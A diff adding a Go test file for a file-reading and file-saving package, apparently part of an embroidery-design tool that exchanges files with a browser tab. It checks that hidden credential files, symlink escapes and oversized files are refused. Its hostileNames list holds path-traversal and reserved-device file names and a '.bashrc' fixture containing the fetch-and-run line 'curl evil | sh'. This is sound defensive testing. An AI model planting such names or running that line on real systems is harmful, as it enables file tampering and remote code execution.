@@ -1,0 +1,668 @@
+package files
+
+import (
+	"encoding/base64"
+	"errors"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"reflect"
+	"runtime"
+	"sort"
+	"strings"
+	"testing"
+)
+
+// Magic numbers written from the formats' specifications, not copied from
+// the code under test.
+var (
+	pngBytes  = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
+	jpegBytes = []byte{0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 'J', 'F', 'I', 'F'}
+	gif87     = []byte("GIF87a\x01\x00\x01\x00")
+	gif89     = []byte("GIF89a\x01\x00\x01\x00")
+	webpBytes = []byte("RIFF\x24\x00\x00\x00WEBPVP8 ")
+	// secret marks file content that must never appear in an error.
+	secret = "SECRET-CONTENT-7f3a"
+)
+
+// tempDir is t.TempDir, skipping the test when the temporary directory
+// itself is hidden: every path under it would be refused.
+func tempDir(t *testing.T) string {
+	t.Helper()
+	d := t.TempDir()
+	if h := hidden(d); h != "" {
+		t.Skipf("temporary directory %s has a hidden component %q", d, h)
+	}
+	return d
+}
+
+func write(t *testing.T, path string, data []byte) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, data, 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func symlink(t *testing.T, target, link string) {
+	t.Helper()
+	if err := os.Symlink(target, link); err != nil {
+		t.Skipf("cannot make symlinks here: %v", err)
+	}
+}
+
+// tree lists everything under root, relative, with "/" after directories.
+func tree(t *testing.T, root string) []string {
+	t.Helper()
+	var got []string
+	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
+		if err != nil || p == root {
+			return err
+		}
+		rel, _ := filepath.Rel(root, p)
+		rel = filepath.ToSlash(rel)
+		if d.IsDir() {
+			rel += "/"
+		}
+		got = append(got, rel)
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	sort.Strings(got)
+	return got
+}
+
+func dataURL(mime string, b []byte) string {
+	return "data:" + mime + ";base64," + base64.StdEncoding.EncodeToString(b)
+}
+
+func TestRead(t *testing.T) {
+	home := tempDir(t)
+	text := []byte(`{"note":"` + secret + `"}`)
+	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg"><!-- ` + secret + ` --></svg>`)
+	files := map[string][]byte{
+		"a.png":                    pngBytes,
+		"png-named.dst":            pngBytes,
+		"photo.JPG":                jpegBytes,
+		"old.gif":                  gif87,
+		"new.gif":                  gif89,
+		"x.webp":                   webpBytes,
+		"image":                    webpBytes,
+		"notes.png":                text,
+		"notes.jpeg":               text,
+		"wave.webp":                []byte("RIFF\x24\x00\x00\x00WAVEfmt " + secret),
+		"design.dst":               []byte("LA:" + secret),
+		"DESIGN.PES":               []byte("#PES0001" + secret),
+		"d.jef":                    {0, 1, 2},
+		"d.exp":                    {0, 1, 2},
+		"d.vp3":                    {0, 1, 2},
+		"d.inf":                    {0, 1, 2},
+		"d.col":                    {0, 1, 2},
+		"d.svg":                    svg,
+		"d.dxf":                    []byte("0\nSECTION\n" + secret),
+		"d.stitchslop":             text,
+		"d.json":                   text,
+		"empty.json":               {},
+		"bad.json":                 []byte("{\"a\":\"\xff\xfe" + secret + "\"}"),
+		"png-named.svg":            pngBytes,
+		"id_rsa":                   []byte(secret),
+		"credentials.txt":          []byte(secret),
+		"run.sh":                   []byte("#!/bin/sh\n" + secret),
+		".hidden.json":             text,
+		".ssh/id_rsa.json":         text,
+		".aws/credentials.json":    text,
+		".stitchslop/pairing.json": text,
+		"Downloads/real.dst":       []byte("LA:"),
+	}
+	for name, b := range files {
+		write(t, filepath.Join(home, filepath.FromSlash(name)), b)
+	}
+	if err := os.Mkdir(filepath.Join(home, "dir.dst"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	symlinks := os.Symlink(filepath.Join(home, ".ssh", "id_rsa.json"), filepath.Join(home, "key.json")) == nil &&
+		os.Symlink(filepath.Join(home, ".aws"), filepath.Join(home, "aws")) == nil &&
+		os.Symlink(filepath.Join(home, "Downloads", "real.dst"), filepath.Join(home, "ok.dst")) == nil
+
+	tests := []struct {
+		path, mode string
+		link       bool   // needs symlinks
+		wantMime   string // "" when an error is wanted
+		wantValue  string
+		wantErr    string
+	}{
+		{path: "a.png", wantMime: "image/png", wantValue: dataURL("image/png", pngBytes)},
+		{path: "a.png", mode: DataURL, wantMime: "image/png", wantValue: dataURL("image/png", pngBytes)},
+		{path: "png-named.dst", wantMime: "image/png", wantValue: dataURL("image/png", pngBytes)},
+		{path: "photo.JPG", wantMime: "image/jpeg", wantValue: dataURL("image/jpeg", jpegBytes)},
+		{path: "old.gif", wantMime: "image/gif", wantValue: dataURL("image/gif", gif87)},
+		{path: "new.gif", wantMime: "image/gif", wantValue: dataURL("image/gif", gif89)},
+		{path: "x.webp", wantMime: "image/webp", wantValue: dataURL("image/webp", webpBytes)},
+		{path: "image", wantMime: "image/webp", wantValue: dataURL("image/webp", webpBytes)},
+		{path: "notes.png", wantErr: "its bytes are not a PNG, JPEG, GIF or WebP image"},
+		{path: "notes.jpeg", wantErr: "its bytes are not a PNG, JPEG, GIF or WebP image"},
+		{path: "wave.webp", wantErr: "its bytes are not a PNG, JPEG, GIF or WebP image"},
+		{path: "design.dst", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", files["design.dst"])},
+		{path: "DESIGN.PES", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", files["DESIGN.PES"])},
+		{path: "d.jef", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", []byte{0, 1, 2})},
+		{path: "d.exp", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", []byte{0, 1, 2})},
+		{path: "d.vp3", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", []byte{0, 1, 2})},
+		{path: "d.inf", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", []byte{0, 1, 2})},
+		{path: "d.col", wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", []byte{0, 1, 2})},
+		{path: "d.svg", wantMime: "image/svg+xml", wantValue: dataURL("image/svg+xml", svg)},
+		{path: "d.svg", mode: Text, wantMime: "image/svg+xml", wantValue: string(svg)},
+		{path: "d.dxf", mode: Text, wantMime: "image/vnd.dxf", wantValue: string(files["d.dxf"])},
+		{path: "d.stitchslop", mode: Text, wantMime: "application/json", wantValue: string(text)},
+		{path: "d.json", mode: Text, wantMime: "application/json", wantValue: string(text)},
+		{path: "d.json", wantMime: "application/json", wantValue: dataURL("application/json", text)},
+		{path: "empty.json", mode: Text, wantMime: "application/json", wantValue: ""},
+		{path: "bad.json", mode: Text, wantErr: "not valid UTF-8"},
+		{path: "bad.json", wantMime: "application/json", wantValue: dataURL("application/json", files["bad.json"])},
+		{path: "design.dst", mode: Text, wantErr: "cannot be sent as text"},
+		{path: "a.png", mode: Text, wantErr: "cannot be sent as text"},
+		{path: "png-named.svg", mode: Text, wantErr: "cannot be sent as text"},
+		{path: "d.json", mode: "base64", wantErr: `mode must be "dataUrl" or "text"`},
+		{path: "id_rsa", wantErr: "not a kind of file sent to the tab"},
+		{path: "credentials.txt", wantErr: "not a kind of file sent to the tab"},
+		{path: "run.sh", wantErr: "not a kind of file sent to the tab"},
+		{path: ".hidden.json", wantErr: "hidden files and folders are not sent"},
+		{path: ".ssh/id_rsa.json", wantErr: "hidden files and folders are not sent"},
+		{path: ".aws/credentials.json", mode: Text, wantErr: "hidden files and folders are not sent"},
+		{path: ".stitchslop/pairing.json", mode: Text, wantErr: "hidden files and folders are not sent"},
+		{path: "Downloads/../.ssh/id_rsa.json", wantErr: "hidden files and folders are not sent"},
+		{path: ".ssh/../d.json", wantMime: "application/json", wantValue: dataURL("application/json", text)},
+		{path: "key.json", link: true, wantErr: "hidden files and folders are not sent"},
+		{path: "aws/credentials.json", link: true, wantErr: "hidden files and folders are not sent"},
+		{path: "ok.dst", link: true, wantMime: "application/octet-stream", wantValue: dataURL("application/octet-stream", []byte("LA:"))},
+		{path: "dir.dst", wantErr: "not a regular file"},
+		{path: "missing.dst", wantErr: "no such file"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.path+"/"+tt.mode, func(t *testing.T) {
+			if tt.link && !symlinks {
+				t.Skip("cannot make symlinks here")
+			}
+			path := home + string(filepath.Separator) + filepath.FromSlash(tt.path) // not cleaned
+			got, err := Read(path, tt.mode)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) && !(tt.wantErr == "no such file" && errors.Is(err, fs.ErrNotExist)) {
+					t.Fatalf("Read(%q, %q) = %v, want error containing %q", tt.path, tt.mode, err, tt.wantErr)
+				}
+				if strings.Contains(err.Error(), secret) {
+					t.Errorf("Read(%q, %q) error %q quotes the file's content", tt.path, tt.mode, err)
+				}
+				if got != (In{}) {
+					t.Errorf("Read(%q, %q) = %+v with an error, want In{}", tt.path, tt.mode, got)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("Read(%q, %q) = %v, want nil", tt.path, tt.mode, err)
+			}
+			fi, err := os.Stat(path)
+			if err != nil {
+				t.Fatal(err)
+			}
+			want := In{Name: filepath.Base(path), Mime: tt.wantMime, Size: fi.Size(), Value: tt.wantValue}
+			if got != want {
+				t.Errorf("Read(%q, %q) = %+v, want %+v", tt.path, tt.mode, got, want)
+			}
+		})
+	}
+}
+
+func TestReadRelative(t *testing.T) {
+	dir := tempDir(t)
+	write(t, filepath.Join(dir, "a.png"), pngBytes)
+	t.Chdir(dir)
+	got, err := Read("a.png", "")
+	if err != nil || got.Name != "a.png" || got.Mime != "image/png" {
+		t.Errorf("Read(%q, \"\") = %+v, %v; want a.png image/png", "a.png", got, err)
+	}
+	if _, err := Read("", ""); err == nil {
+		t.Errorf("Read(%q, \"\") = nil, want an error", "")
+	}
+}
+
+// TestReadSize: a file of MaxIn bytes is sent; one byte more is refused
+// with its size and the cap in MB. The files are sparse.
+func TestReadSize(t *testing.T) {
+	dir := tempDir(t)
+	for _, tt := range []struct {
+		size    int64
+		wantErr string
+	}{
+		{MaxIn, ""},
+		{MaxIn + 1, "is 14680065 bytes, over the 14 MB limit"},
+	} {
+		path := filepath.Join(dir, "big.dst")
+		f, err := os.Create(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := f.Truncate(tt.size); err != nil {
+			t.Fatal(err)
+		}
+		f.Close()
+		got, err := Read(path, DataURL)
+		if tt.wantErr == "" {
+			if err != nil || got.Size != MaxIn || len(got.Value) != len("data:application/octet-stream;base64,")+base64.StdEncoding.EncodedLen(MaxIn) {
+				t.Errorf("Read(%d bytes) = size %d, %v; want size %d, nil", tt.size, got.Size, err, MaxIn)
+			}
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+			t.Errorf("Read(%d bytes) = %v, want error containing %q", tt.size, err, tt.wantErr)
+		}
+	}
+}
+
+// hostileNames are names a page might return to escape dir, hide a file,
+// or plant a script. Save must refuse every one and write nothing.
+var hostileNames = []struct {
+	name string
+	data []byte
+}{
+	{"../../x.sh", []byte("#!/bin/sh\n")},
+	{"../../x.png", pngBytes},
+	{"x/../../x.dst", []byte("LA:")},
+	{".bashrc", []byte("curl evil | sh\n")},
+	{".profile.md", []byte("x")},
+	{".png", pngBytes},
+	{"a/b.dst", []byte("LA:")},
+	{`a\b.dst`, []byte("LA:")},
+	{"/etc/x.dst", []byte("LA:")},
+	{`C:\x.dst`, []byte("LA:")},
+	{"C:x.dst", []byte("LA:")},
+	{"x.sh", []byte("#!/bin/sh\n")},
+	{"x.bat", []byte("x")},
+	{"x.exe", []byte("MZ")},
+	{"x.ps1", []byte("x")},
+	{"x.command", []byte("x")},
+	{"x.js", []byte("x")},
+	{"x.py", []byte("x")},
+	{"x.png.sh", pngBytes},
+	{"x.desktop", []byte("x")},
+	{"Makefile", []byte("x")},
+	{"x", []byte("x")},
+	{"CON.png", pngBytes},
+	{"con", []byte("x")},
+	{"nul.txt", []byte("x")},
+	{"Aux.tar.json", []byte("{}")},
+	{"PRN.md", []byte("x")},
+	{"com1.dst", []byte("x")},
+	{"LPT9.txt", []byte("x")},
+	{"COM¹.txt", []byte("x")},
+	{"CONOUT$.txt", []byte("x")},
+	{"CON .png", pngBytes},
+	{"x.png.", pngBytes},
+	{"x.png ", pngBytes},
+	{"x.png", []byte("not an image")},
+	{"x.jpg", pngBytes},
+	{"x.webp", []byte("RIFF\x00\x00\x00\x00WAVE")},
+	{"x.dst:evil", []byte("x")},
+	{"x.dst::$DATA", []byte("x")},
+	{"x?.dst", []byte("x")},
+	{"x*.dst", []byte("x")},
+	{"x|y.dst", []byte("x")},
+	{"x\x00.dst", []byte("x")},
+	{"x\n.dst", []byte("x")},
+	{"x\x1b[31m.dst", []byte("x")},
+	{"x\x7f.dst", []byte("x")},
+	{"\xff.dst", []byte("x")},
+	{"", []byte("x")},
+	{".", []byte("x")},
+	{"..", []byte("x")},
+	{strings.Repeat("a", 252) + ".dst", []byte("x")},
+}
+
+func TestSaveRefusesHostileNames(t *testing.T) {
+	root := tempDir(t)
+	dir := filepath.Join(root, "a", "b")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	for _, tt := range hostileNames {
+		for _, overwrite := range []bool{false, true} {
+			got, err := Save(dir, tt.name, tt.data, overwrite)
+			if err == nil {
+				t.Errorf("Save(dir, %q, overwrite=%v) = %q, want an error", tt.name, overwrite, got)
+				continue
+			}
+			if len(tt.name) > 3 && strings.Contains(err.Error(), tt.name) {
+				t.Errorf("Save(dir, %q) error %q quotes the name from the tab", tt.name, err)
+			}
+		}
+	}
+	if got, want := tree(t, root), []string{"a/", "a/b/"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("after refused saves, %s holds %q, want %q", root, got, want)
+	}
+}
+
+func TestSave(t *testing.T) {
+	long := strings.Repeat("a", 251) + ".dst"
+	tests := []struct {
+		name string
+		data []byte
+	}{
+		{"design.dst", []byte("LA:")},
+		{"Photo.PNG", pngBytes},
+		{"x.jpeg", jpegBytes},
+		{"x.jpg", jpegBytes},
+		{"x.gif", gif89},
+		{"x.webp", webpBytes},
+		{"d.pes", []byte{0}},
+		{"d.jef", []byte{0}},
+		{"d.exp", []byte{0}},
+		{"d.vp3", []byte{0}},
+		{"d.inf", []byte{0}},
+		{"d.col", []byte{0}},
+		{"d.svg", []byte("<svg/>")},
+		{"d.dxf", []byte("0\nEOF\n")},
+		{"d.stitchslop", []byte("{}")},
+		{"reply.json", []byte("{}")},
+		{"reply.txt", []byte("hello")},
+		{"notes.md", []byte("# hi")},
+		{"console.png", pngBytes},
+		{"COM10.dst", []byte{0}},
+		{"my design v2.dst", []byte{0}},
+		{"über.svg", []byte("<svg/>")},
+		{"png-bytes.dst", pngBytes},
+		{"empty.txt", nil},
+		{long, []byte{0}},
+	}
+	for _, tt := range tests {
+		for _, overwrite := range []bool{false, true} {
+			dir := tempDir(t)
+			got, err := Save(dir, tt.name, tt.data, overwrite)
+			want := filepath.Join(dir, tt.name)
+			if err != nil || got != want {
+				t.Errorf("Save(dir, %q, overwrite=%v) = %q, %v; want %q, nil", tt.name, overwrite, got, err, want)
+				continue
+			}
+			b, err := os.ReadFile(want)
+			if err != nil || string(b) != string(tt.data) {
+				t.Errorf("Save(dir, %q, overwrite=%v) wrote %q, %v; want %q", tt.name, overwrite, b, err, tt.data)
+			}
+			if ents := tree(t, dir); len(ents) != 1 {
+				t.Errorf("Save(dir, %q, overwrite=%v) left %q, want one file", tt.name, overwrite, ents)
+			}
+		}
+	}
+}
+
+func TestSaveDir(t *testing.T) {
+	root := tempDir(t)
+	write(t, filepath.Join(root, "file.dst"), []byte("LA:"))
+	if err := os.MkdirAll(filepath.Join(root, ".config", "app"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	links := os.Symlink(filepath.Join(root, ".config"), filepath.Join(root, "cfg")) == nil
+	tests := []struct {
+		dir     string
+		link    bool
+		wantErr string
+	}{
+		{dir: "", wantErr: "empty directory"},
+		{dir: "missing", wantErr: "no such file"},
+		{dir: "missing/deeper", wantErr: "no such file"},
+		{dir: "file.dst", wantErr: "not a directory"},
+		{dir: ".config", wantErr: "hidden files and folders are not written to"},
+		{dir: ".config/app", wantErr: "hidden files and folders are not written to"},
+		{dir: "cfg/app", link: true, wantErr: "hidden files and folders are not written to"},
+	}
+	for _, tt := range tests {
+		if tt.link && !links {
+			continue
+		}
+		dir := ""
+		if tt.dir != "" {
+			dir = filepath.Join(root, filepath.FromSlash(tt.dir))
+		}
+		got, err := Save(dir, "x.dst", []byte("LA:"), false)
+		if err == nil || !strings.Contains(err.Error(), tt.wantErr) && !(tt.wantErr == "no such file" && errors.Is(err, fs.ErrNotExist)) {
+			t.Errorf("Save(%q, %q) = %q, %v; want error containing %q", tt.dir, "x.dst", got, err, tt.wantErr)
+		}
+	}
+	want := []string{".config/", ".config/app/", "file.dst"}
+	if links {
+		want = []string{".config/", ".config/app/", "cfg", "file.dst"}
+	}
+	if got := tree(t, root); !reflect.DeepEqual(got, want) {
+		t.Errorf("after refused saves, %s holds %q, want %q", root, got, want)
+	}
+}
+
+func TestSaveExclusive(t *testing.T) {
+	dir := tempDir(t)
+	outside := tempDir(t)
+	target := filepath.Join(outside, "target.png")
+	write(t, target, pngBytes)
+	write(t, filepath.Join(dir, "old.dst"), []byte("old"))
+
+	_, err := Save(dir, "old.dst", []byte("new"), false)
+	if err == nil || !strings.Contains(err.Error(), "already exists; pass overwrite") {
+		t.Errorf("Save(dir, %q, false) over a file = %v, want error containing %q", "old.dst", err, "already exists; pass overwrite")
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "old.dst")); string(b) != "old" {
+		t.Errorf("Save(dir, %q, false) changed the existing file to %q", "old.dst", b)
+	}
+
+	symlink(t, target, filepath.Join(dir, "link.png"))
+	_, err = Save(dir, "link.png", pngBytes[:8], false)
+	if err == nil || !strings.Contains(err.Error(), "already exists") {
+		t.Errorf("Save(dir, %q, false) over a symlink = %v, want error containing %q", "link.png", err, "already exists")
+	}
+	if b, _ := os.ReadFile(target); string(b) != string(pngBytes) {
+		t.Errorf("Save(dir, %q, false) wrote through the symlink: target holds %q", "link.png", b)
+	}
+	if fi, err := os.Lstat(filepath.Join(dir, "link.png")); err != nil || fi.Mode()&fs.ModeSymlink == 0 {
+		t.Errorf("Save(dir, %q, false) replaced the symlink (%v, %v)", "link.png", fi, err)
+	}
+}
+
+func TestSaveOverwrite(t *testing.T) {
+	dir := tempDir(t)
+	outside := tempDir(t)
+	target := filepath.Join(outside, "target.png")
+	write(t, target, pngBytes)
+	write(t, filepath.Join(dir, "old.dst"), []byte("old"))
+	if err := os.Mkdir(filepath.Join(dir, "sub.dst"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := Save(dir, "old.dst", []byte("new"), true); err != nil {
+		t.Errorf("Save(dir, %q, true) = %v, want nil", "old.dst", err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "old.dst")); string(b) != "new" {
+		t.Errorf("Save(dir, %q, true) left %q, want %q", "old.dst", b, "new")
+	}
+
+	_, err := Save(dir, "sub.dst", []byte("x"), true)
+	if err == nil || !strings.Contains(err.Error(), "is a directory") {
+		t.Errorf("Save(dir, %q, true) over a directory = %v, want error containing %q", "sub.dst", err, "is a directory")
+	}
+
+	want := []string{"old.dst", "sub.dst/"}
+	if os.Symlink(target, filepath.Join(dir, "link.png")) == nil {
+		img := append(append([]byte{}, pngBytes...), "new"...)
+		if _, err := Save(dir, "link.png", img, true); err != nil {
+			t.Errorf("Save(dir, %q, true) over a symlink = %v, want nil", "link.png", err)
+		}
+		if b, _ := os.ReadFile(target); string(b) != string(pngBytes) {
+			t.Errorf("Save(dir, %q, true) wrote through the symlink: target holds %q", "link.png", b)
+		}
+		fi, err := os.Lstat(filepath.Join(dir, "link.png"))
+		if err != nil || !fi.Mode().IsRegular() {
+			t.Errorf("Save(dir, %q, true) left %v, %v; want a regular file", "link.png", fi, err)
+		}
+		want = []string{"link.png", "old.dst", "sub.dst/"}
+	}
+	if got := tree(t, dir); !reflect.DeepEqual(got, want) {
+		t.Errorf("after Save with overwrite, dir holds %q, want %q (no temporary file)", got, want)
+	}
+}
+
+func TestDecodeDataURL(t *testing.T) {
+	tests := []struct {
+		in       string
+		wantMime string
+		wantData string
+		wantErr  string
+	}{
+		{in: "data:image/png;base64,iVBORw0KGgo=", wantMime: "image/png", wantData: "\x89PNG\r\n\x1a\n"},
+		{in: "DATA:text/plain;BASE64,aGk=", wantMime: "text/plain", wantData: "hi"},
+		{in: "Data:image/svg+xml;Base64,PHN2Zy8+", wantMime: "image/svg+xml", wantData: "<svg/>"},
+		{in: "data:;base64,", wantMime: "", wantData: ""},
+		{in: "data:application/json;base64,e30=", wantMime: "application/json", wantData: "{}"},
+		{in: "", wantErr: "not a data URL"},
+		{in: "data", wantErr: "not a data URL"},
+		{in: "https://x.test/a.png", wantErr: "not a data URL"},
+		{in: "javascript:alert(1)", wantErr: "not a data URL"},
+		{in: "data:image/png", wantErr: "has no data"},
+		{in: "data:image/png,SECRETPAYLOAD", wantErr: "is not ;base64,"},
+		{in: "data:text/plain;charset=utf-8;base64,aGk=", wantErr: "is not ;base64,"},
+		{in: "data:image/png;base64", wantErr: "is not ;base64,"},
+		{in: "data:image/png;base64,aGk", wantErr: "bad base64"},
+		{in: "data:image/png;base64,aGk=SECRETPAYLOAD", wantErr: "bad base64"},
+		{in: "data:image/png;base64,!!!!", wantErr: "bad base64"},
+		{in: "data:image/png;base64,aG-_", wantErr: "bad base64"},
+	}
+	for _, tt := range tests {
+		mime, data, err := DecodeDataURL(tt.in)
+		if tt.wantErr != "" {
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("DecodeDataURL(%q) = %v, want error containing %q", tt.in, err, tt.wantErr)
+			}
+			if err != nil && (strings.Contains(err.Error(), "SECRET") || strings.Contains(err.Error(), "image/png")) {
+				t.Errorf("DecodeDataURL(%q) error %q echoes the URL", tt.in, err)
+			}
+			if mime != "" || data != nil {
+				t.Errorf("DecodeDataURL(%q) = %q, %q with an error, want empty", tt.in, mime, data)
+			}
+			continue
+		}
+		if err != nil || mime != tt.wantMime || string(data) != tt.wantData {
+			t.Errorf("DecodeDataURL(%q) = %q, %q, %v; want %q, %q, nil", tt.in, mime, data, err, tt.wantMime, tt.wantData)
+		}
+	}
+}
+
+func TestSetArg(t *testing.T) {
+	type m = map[string]any
+	tests := []struct {
+		args    func() m
+		key     string
+		want    m
+		wantErr string
+	}{
+		{func() m { return m{} }, "a", m{"a": 1}, ""},
+		{func() m { return m{"a": 0} }, "a", m{"a": 1}, ""},
+		{func() m { return m{"x": 2} }, "sidecar.data", m{"x": 2, "sidecar": m{"data": 1}}, ""},
+		{func() m { return m{"sidecar": m{"keep": 2}} }, "sidecar.data", m{"sidecar": m{"keep": 2, "data": 1}}, ""},
+		{func() m { return m{} }, "a.b.c", m{"a": m{"b": m{"c": 1}}}, ""},
+		{func() m { return m{"a": m{}} }, "a.b.c", m{"a": m{"b": m{"c": 1}}}, ""},
+		{func() m { return m{} }, "a.b.c.d", nil, "want 1 to 3 non-empty names"},
+		{func() m { return m{} }, "", nil, "want 1 to 3 non-empty names"},
+		{func() m { return m{} }, ".a", nil, "want 1 to 3 non-empty names"},
+		{func() m { return m{} }, "a.", nil, "want 1 to 3 non-empty names"},
+		{func() m { return m{} }, "a..b", nil, "want 1 to 3 non-empty names"},
+		{func() m { return m{"a": "s"} }, "a.b", nil, `"a" is a string, not an object`},
+		{func() m { return m{"a": nil} }, "a.b", nil, `"a" is a <nil>, not an object`},
+		{func() m { return m{"a": []any{}} }, "a.b.c", nil, `"a" is a []interface {}, not an object`},
+		{func() m { return m{"a": map[string]string{}} }, "a.b", nil, `"a" is a map[string]string, not an object`},
+		{func() m { return m{"a": m{"b": 5}} }, "a.b.c", nil, `"a.b" is a int, not an object`},
+	}
+	for _, tt := range tests {
+		args := tt.args()
+		err := SetArg(args, tt.key, 1)
+		if tt.wantErr != "" {
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("SetArg(%v, %q) = %v, want error containing %q", tt.args(), tt.key, err, tt.wantErr)
+			}
+			if !reflect.DeepEqual(args, tt.args()) {
+				t.Errorf("SetArg(%v, %q) changed args to %v on error", tt.args(), tt.key, args)
+			}
+			continue
+		}
+		if err != nil || !reflect.DeepEqual(args, tt.want) {
+			t.Errorf("SetArg(%v, %q) = %v, %v; want %v, nil", tt.args(), tt.key, args, err, tt.want)
+		}
+	}
+	if err := SetArg(nil, "a", 1); err == nil {
+		t.Errorf("SetArg(nil, %q) = nil, want an error", "a")
+	}
+}
+
+// TestReadNeverTrustsStat: a file that grows far past MaxIn between Stat
+// and the read is refused, having cost no more than about MaxIn of memory;
+// a file swapped for another between Stat and open is refused.
+func TestReadNeverTrustsStat(t *testing.T) {
+	dir := tempDir(t)
+	path := filepath.Join(dir, "grows.dst")
+	write(t, path, []byte("LA:"))
+	write(t, filepath.Join(dir, "other.dst"), []byte("LA:"))
+	t.Cleanup(func() { openFile = os.Open })
+	const grown = 64 * MaxIn // sparse
+	openFile = func(name string) (*os.File, error) {
+		f, err := os.Open(name)
+		if err == nil {
+			err = os.Truncate(name, grown)
+		}
+		return f, err
+	}
+	var before, after runtime.MemStats
+	runtime.ReadMemStats(&before)
+	got, err := Read(path, DataURL)
+	runtime.ReadMemStats(&after)
+	if err == nil || !strings.Contains(err.Error(), "over the 14 MB limit") {
+		t.Errorf("Read(%q) of a growing file = %+v, %v; want error containing %q", "grows.dst", got.Size, err, "over the 14 MB limit")
+	}
+	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 8*MaxIn {
+		t.Errorf("Read(%q) of a file grown to %d bytes allocated %d bytes, want at most %d", "grows.dst", grown, alloc, 8*MaxIn)
+	}
+
+	write(t, path, []byte("LA:"))
+	openFile = func(string) (*os.File, error) { return os.Open(filepath.Join(dir, "other.dst")) }
+	if _, err := Read(path, DataURL); err == nil || !strings.Contains(err.Error(), "changed while being opened") {
+		t.Errorf("Read(%q) of a swapped file = %v, want error containing %q", "grows.dst", err, "changed while being opened")
+	}
+}
+
+// TestSaveFailureLeavesNothing: a write or a rename that fails leaves no
+// partial file and no temporary file.
+func TestSaveFailureLeavesNothing(t *testing.T) {
+	t.Cleanup(func() { writeClose, rename = writeCloseFile, os.Rename })
+	broken := errors.New("disk full")
+	writeClose = func(f *os.File, data []byte) error {
+		f.Write(data[:len(data)/2])
+		f.Close()
+		return broken
+	}
+	for _, overwrite := range []bool{false, true} {
+		dir := tempDir(t)
+		if _, err := Save(dir, "x.dst", []byte("LA:design"), overwrite); !errors.Is(err, broken) {
+			t.Errorf("Save(dir, %q, %v) with a failing write = %v, want %v", "x.dst", overwrite, err, broken)
+		}
+		if got := tree(t, dir); len(got) != 0 {
+			t.Errorf("Save(dir, %q, %v) with a failing write left %q, want nothing", "x.dst", overwrite, got)
+		}
+	}
+	writeClose = writeCloseFile
+	rename = func(string, string) error { return broken }
+	dir := tempDir(t)
+	write(t, filepath.Join(dir, "x.dst"), []byte("old"))
+	if _, err := Save(dir, "x.dst", []byte("LA:design"), true); !errors.Is(err, broken) {
+		t.Errorf("Save(dir, %q, true) with a failing rename = %v, want %v", "x.dst", err, broken)
+	}
+	if got := tree(t, dir); !reflect.DeepEqual(got, []string{"x.dst"}) {
+		t.Errorf("Save(dir, %q, true) with a failing rename left %q, want [x.dst]", "x.dst", got)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "x.dst")); string(b) != "old" {
+		t.Errorf("Save(dir, %q, true) with a failing rename changed the old file to %q", "x.dst", b)
+	}
+}
